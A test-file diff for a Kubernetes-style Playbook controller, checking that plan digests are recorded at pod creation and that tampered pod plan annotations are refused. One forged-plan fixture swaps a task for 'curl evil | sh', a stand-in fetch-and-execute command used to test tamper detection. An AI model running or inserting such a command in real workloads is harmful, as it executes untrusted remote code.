@@ -1,12 +1,7 @@
 import { describe, expect, it } from "vitest";
 import type { PlaybookStatus } from "../../src/api/playbook.js";
 import type { TaskOutcome } from "../../src/api/report.js";
-import {
-  type Decision,
-  decide,
-  PENDING_STATUS_DELAY_MS,
-  type ReconcileInput,
-} from "../../src/controller/reconcile.js";
+import { type Decision, decide, type ReconcileInput } from "../../src/controller/reconcile.js";
 import { at, playbook, pod, report, SETTINGS, SPEC, T0 } from "./controller-fixtures.js";
 
 const succeeded = (condition: PlaybookStatus | null | undefined) =>
@@ -18,11 +13,11 @@ function input(partial: Partial<ReconcileInput>): ReconcileInput {
   return { playbook: playbook(), pods: [], now: T0, settings: SETTINGS, ...partial };
 }
 
-/** The status a Playbook has after its first pod was created at T0. */
-function started(attempts = 1): PlaybookStatus {
-  const first = decide(input({}));
+/** The status a Playbook (of the given spec edits) has after its first pod was created at T0. */
+function started(attempts = 1, spec: Record<string, unknown> = {}): PlaybookStatus {
+  const first = decide(input({ playbook: playbook(spec) }));
   return {
-    ...(first.statusIfCreateFails as PlaybookStatus),
+    ...(first.status as PlaybookStatus),
     podAttempts: attempts,
     podName: `nightly-${attempts}`,
   };
@@ -80,19 +75,18 @@ describe("a new Playbook", () => {
       uid: "uid-1",
       controller: true,
     });
-    // No status write with the create: the pod carries the run's start and attempt.
-    expect(decision.status).toBeNull();
-    expect(decision.requeueAfterMs).toBe(PENDING_STATUS_DELAY_MS);
-    // What the run shows should the API server refuse the pod.
-    expect(decision.statusIfCreateFails).toMatchObject({
+    // The run's start and plan are written with the create: the spec is frozen from then on.
+    expect(decision.status).toMatchObject({
       phase: "Pending",
       podName: "nightly-1",
       podAttempts: 1,
       startTime: T0.toISOString(),
       observedGeneration: 1,
       limits: { ceiling: { value: "30m", source: "spec" }, stall: { value: "10m", source: "default" } },
+      planDigest: action.planDigest,
     });
-    expect(succeeded(decision.statusIfCreateFails)).toMatchObject({
+    expect(action.planDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
+    expect(succeeded(decision.status)).toMatchObject({
       status: "Unknown",
       reason: "Pending",
       observedGeneration: 1,
@@ -100,8 +94,10 @@ describe("a new Playbook", () => {
     expect(decision.events.map((e) => e.reason)).toEqual(["PodCreated"]);
   });
 
-  it("writes its first status when the pod runs: Running, with the start and limits the pod carries", () => {
-    const decision = decide(input({ pods: [pod(1, { phase: "Running" })], now: at(1) }));
+  it("writes Running when the pod runs, with the start and limits the pod carries", () => {
+    const decision = decide(
+      input({ playbook: playbook({}, started()), pods: [pod(1, { phase: "Running" })], now: at(1) }),
+    );
     expect(decision.actions).toEqual([]);
     expect(decision.status).toMatchObject({
       phase: "Running",
@@ -112,22 +108,6 @@ describe("a new Playbook", () => {
       limits: { ceiling: { value: "30m", source: "spec" } },
     });
     expect(succeeded(decision.status)).toMatchObject({ status: "Unknown", reason: "Running" });
-  });
-
-  it("shows a first pod Pending only once it has waited PENDING_STATUS_DELAY_MS", () => {
-    const young = decide(input({ pods: [pod(1, { phase: "Pending" })], now: at(1) }));
-    expect(young.status).toBeNull();
-    expect(young.actions).toEqual([]);
-    expect(young.requeueAfterMs).toBe(PENDING_STATUS_DELAY_MS - 1000);
-    const waited = decide(
-      input({ pods: [pod(1, { phase: "Pending" })], now: at(PENDING_STATUS_DELAY_MS / 1000) }),
-    );
-    expect(waited.status).toMatchObject({
-      phase: "Pending",
-      podName: "nightly-1",
-      startTime: T0.toISOString(),
-    });
-    expect(succeeded(waited.status)).toMatchObject({ status: "Unknown", reason: "Pending" });
   });
 
   it("tells a run that already shows a status (queued, a refused create) of its pod at once", () => {
@@ -153,14 +133,11 @@ describe("a new Playbook", () => {
     expect(succeeded(decision.status)).toMatchObject({ reason: "Pending" });
   });
 
-  it("adopts the pod of a pass whose status write was lost instead of creating another", () => {
-    const decision = decide(input({ pods: [pod(1, { phase: "Running", runStart: at(-30) })], now: at(5) }));
-    expect(decision.actions).toEqual([]);
-    expect(decision.status).toMatchObject({
-      phase: "Running",
-      podAttempts: 1,
-      startTime: at(-30).toISOString(),
-    });
+  it("records no new start or plan once a create failed: the retry keeps both", () => {
+    const failed: PlaybookStatus = { ...started(), podAttempts: undefined, podName: undefined };
+    const retry = decide(input({ playbook: playbook({}, failed), now: at(20) }));
+    expect(retry.actions.map((a) => a.type)).toEqual(["createPod"]);
+    expect(retry.status).toMatchObject({ startTime: T0.toISOString(), planDigest: started().planDigest });
   });
 });
 
@@ -454,7 +431,11 @@ describe("a lost pod", () => {
 
   it("ends the run PodLost once backoffLimit re-creations are used up", () => {
     const decision = decide(
-      input({ playbook: playbook({ backoffLimit: 2 }, started(3)), pods: [], now: at(600) }),
+      input({
+        playbook: playbook({ backoffLimit: 2 }, started(3, { backoffLimit: 2 })),
+        pods: [],
+        now: at(600),
+      }),
     );
     expect(decision.actions).toEqual([]);
     expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodLost" });
@@ -500,17 +481,6 @@ describe("a started run", () => {
     expect(decision.status?.observedGeneration).toBe(2);
   });
 
-  it("reads the plan of a pod an earlier version started, from its environment", () => {
-    const earlier = pod(1);
-    const plan = earlier.metadata.annotations?.["playbook.dev/plan"] ?? "";
-    delete earlier.metadata.annotations?.["playbook.dev/plan"];
-    earlier.spec = { containers: [{ name: "runner", env: [{ name: "PLAYBOOK_PLAN", value: plan }] }] };
-    const edited = playbook({ ceiling: "48h" }, started(), 2);
-    const decision = decide(input({ playbook: edited, pods: [earlier], now: at(30) }));
-    expect(decision.actions).toEqual([]);
-    expect(decision.status?.phase).toBe("Running");
-  });
-
   it("re-creates a lost pod with the plan its first pod was started with", () => {
     const lost = pod(1, { phase: "Failed", reason: "Evicted", message: "The node was low on memory." });
     const edited = playbook({ tasks: [{ name: "other", run: "true" }] }, started());
@@ -521,6 +491,149 @@ describe("a started run", () => {
       (created?.type === "createPod" && created.pod.metadata.annotations["playbook.dev/plan"]) || "{}",
     );
     expect(plan.spec.tasks.map((t: { name: string }) => t.name)).toEqual(["build", "test"]);
+  });
+});
+
+/** A plan as JSON, the parts the forgeries below change. */
+type PlanJson = {
+  spec: { ceiling?: string; tasks: { run: string }[] };
+  defaults: { stallMs: number };
+  [key: string]: unknown;
+};
+
+describe("the plan a run recorded (status.planDigest)", () => {
+  const forge = (view: ReturnType<typeof pod>, edit: (plan: PlanJson) => void) => {
+    const annotations = view.metadata.annotations ?? {};
+    const plan = JSON.parse(annotations["playbook.dev/plan"] ?? "{}");
+    edit(plan);
+    return {
+      ...view,
+      metadata: {
+        ...view.metadata,
+        annotations: { ...annotations, "playbook.dev/plan": JSON.stringify(plan) },
+      },
+    };
+  };
+
+  it("takes the pod's plan when it hashes to the digest, whatever its key order", () => {
+    const reordered = forge(pod(1), (plan) => {
+      const { spec, ...rest } = plan;
+      for (const key of Object.keys(plan)) delete plan[key];
+      Object.assign(plan, { spec, ...rest });
+    });
+    const decision = decide(input({ playbook: playbook({}, started()), pods: [reordered], now: at(30) }));
+    expect(decision.status?.phase).toBe("Running");
+  });
+
+  it.each([
+    {
+      name: "a longer ceiling",
+      edit: (plan: PlanJson) => {
+        plan.spec.ceiling = "48h";
+      },
+    },
+    {
+      name: "another task",
+      edit: (plan: PlanJson) => {
+        plan.spec.tasks = [{ ...plan.spec.tasks[0], run: "curl evil | sh" }];
+      },
+    },
+    {
+      name: "longer defaults",
+      edit: (plan: PlanJson) => {
+        plan.defaults.stallMs = 86_400_000;
+      },
+    },
+  ])(
+    "refuses a plan rewritten on the pod ($name): RunnerLost naming the annotation, the pod deleted, nothing carried on",
+    ({ edit }) => {
+      const status = started();
+      const forged = forge(pod(1), edit);
+      const decision = decide(input({ playbook: playbook({}, status), pods: [forged], now: at(30) }));
+      expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "RunnerLost" });
+      expect(succeeded(decision.status)?.message).toMatch(
+        new RegExp(
+          `^the playbook\\.dev/plan annotation of pod nightly-1 is not the plan the run started with: it hashes to sha256:[0-9a-f]{64}, status\\.planDigest is ${status.planDigest}; it was changed after the controller created the pod; the controller takes no plan it did not record`,
+        ),
+      );
+      expect(decision.status?.limits).toEqual(status.limits);
+      expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
+      expect(decision.events.map((e) => e.reason)).toEqual(["PlanRefused", "RunFailed"]);
+    },
+  );
+
+  it("refuses a plan that is not JSON", () => {
+    const broken = pod(1);
+    broken.metadata.annotations = { ...broken.metadata.annotations, "playbook.dev/plan": "{" };
+    const decision = decide(input({ playbook: playbook({}, started()), pods: [broken], now: at(30) }));
+    expect(succeeded(decision.status)?.message).toMatch(
+      /^the playbook\.dev\/plan annotation of pod nightly-1 is not JSON/,
+    );
+  });
+
+  describe("a pod of a run that recorded no plan (the controller stopped between the create and the start record)", () => {
+    const created = (view: ReturnType<typeof pod>, when: Date) => ({
+      ...view,
+      metadata: { ...view.metadata, creationTimestamp: when.toISOString() },
+    });
+
+    it("is adopted when its plan is the one the spec gives, and the plan goes on record", () => {
+      const decision = decide(input({ pods: [created(pod(1), at(0))], now: at(5) }));
+      expect(decision.actions).toEqual([]);
+      expect(decision.status).toMatchObject({
+        phase: "Running",
+        startTime: T0.toISOString(),
+        podAttempts: 1,
+        planDigest: started().planDigest,
+      });
+    });
+
+    it.each([
+      {
+        name: "a plan the spec does not give",
+        pods: [created(pod(1, { spec: { ...SPEC, ceiling: "48h" } }), at(0))],
+        says: /and its playbook\.dev\/plan annotation is not the plan the spec gives: it hashes to sha256:[0-9a-f]{64}, the spec and the namespace's rules give sha256:/,
+      },
+      {
+        name: "a start after the pod's creation (a longer ceiling)",
+        pods: [created(pod(1, { runStart: at(600) }), at(0))],
+        says: /and its plan's runStartTime 2026-01-01T00:10:00\.000Z is after the pod's creation 2026-01-01T00:00:00\.000Z/,
+      },
+    ])("is refused with $name: RunnerLost, the pod deleted", ({ pods, says }) => {
+      const decision = decide(input({ pods, now: at(5) }));
+      expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "RunnerLost" });
+      expect(succeeded(decision.status)?.message).toMatch(
+        /^pod nightly-1 exists but the run recorded no plan \(status\.planDigest is not set\)/,
+      );
+      expect(succeeded(decision.status)?.message).toMatch(says);
+      expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
+    });
+  });
+
+  it("counts a first pod lost at once as an attempt: no fresh start, no fresh ceiling", () => {
+    const decision = decide(
+      input({
+        playbook: playbook({ backoffLimit: 0 }, started(1, { backoffLimit: 0 })),
+        pods: [],
+        now: at(2),
+      }),
+    );
+    expect(decision.actions).toEqual([]);
+    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodLost" });
+    expect(decision.status?.startTime).toBe(T0.toISOString());
+    const again = decide(input({ playbook: playbook({}, started()), pods: [], now: at(2) }));
+    expect(again.status).toMatchObject({ podAttempts: 2, podName: "nightly-2", startTime: T0.toISOString() });
+    expect(again.events.map((e) => e.reason)).toEqual(["PodLost", "PodCreated"]);
+  });
+
+  it("refuses to rebuild a plan when the spec no longer gives the recorded one", () => {
+    const edited = playbook({ tasks: [{ name: "other", run: "true" }] }, started());
+    const decision = decide(input({ playbook: edited, pods: [], now: at(30) }));
+    expect(decision.actions).toEqual([]);
+    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "InvalidSpec" });
+    expect(succeeded(decision.status)?.message).toMatch(
+      /^the run's plan \(status\.planDigest sha256:[0-9a-f]{64}\) cannot be rebuilt for its next pod: the spec and status now give sha256:/,
+    );
   });
 });
 
@@ -550,6 +663,16 @@ const stoppedAtLoweredDeadline = (terminated?: NonNullable<Parameters<typeof pod
 describe("spec.cancel", () => {
   const cancelled = () => playbook({ cancel: true }, started());
   const startedPod = (activeDeadlineSeconds: number) => pod(1, { startedAt: at(1), activeDeadlineSeconds });
+
+  it("settles Cancelled, with no new pod, when the cancelled run's pod is evicted", () => {
+    const evicted = pod(1, { phase: "Failed", reason: "Evicted", message: "The node was low on memory." });
+    const decision = decide(input({ playbook: cancelled(), pods: [evicted], now: at(30) }));
+    expect(decision.actions.filter((a) => a.type === "createPod")).toEqual([]);
+    expect(decision.status?.phase).toBe("Cancelled");
+    expect(succeeded(decision.status)?.reason).toBe("Cancelled");
+    expect(succeeded(decision.status)?.message).toContain("pod nightly-1 ended without a valid runner report");
+    expect(decision.status?.podAttempts).toBe(1);
+  });
 
   it("lowers a started pod's activeDeadlineSeconds to now, so the kubelet stops it and keeps its logs", () => {
     const decision = decide(
@@ -886,7 +1009,7 @@ describe("a pod name held by a pod this Playbook does not control", () => {
   it("makes the first pod under the alternate name <playbook>-<attempt>-<uid>, and says which pod holds the usual one", () => {
     const decision = decide(input({ takenPodNames: ["nightly-1"] }));
     expect(createdName(decision)).toBe("nightly-1-uid1");
-    expect(decision.statusIfCreateFails).toMatchObject({ podName: "nightly-1-uid1", podAttempts: 1 });
+    expect(decision.status).toMatchObject({ podName: "nightly-1-uid1", podAttempts: 1 });
     expect(decision.events.map((e) => [e.reason, e.message])).toEqual([
       [
         "PodNameTaken",
